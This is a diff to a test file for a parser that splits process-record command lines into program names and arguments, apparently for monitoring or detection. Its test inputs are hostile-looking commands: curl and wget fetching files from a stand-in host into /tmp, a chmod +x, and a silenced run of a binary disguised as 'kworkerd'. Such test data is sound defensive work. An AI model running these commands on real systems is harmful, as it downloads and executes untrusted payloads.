@@ -192,6 +192,7 @@ describe('programRuns: what the process record holds', () => {
     expect(runs('/bin/sh -c curl -fsSL http://203.0.113.5/s.sh -o /tmp/s.sh', false)).toEqual([
       ['curl', 'curl -fsSL http://203.0.113.5/s.sh -o /tmp/s.sh'],
     ]);
+    expect(runs('/bin/sh -c /tmp/kworkerd 1>/dev/null 2>&1', false)).toEqual([['kworkerd', '/tmp/kworkerd 1>/dev/null 2>&1']]);
     // On a Unix article `/tmp` is a directory, so `;` separates commands.
     expect(runs('cd /tmp && wget -q http://203.0.113.5/x; chmod +x x', false).map(([image]) => image)).toEqual(['wget', 'chmod']);
   });
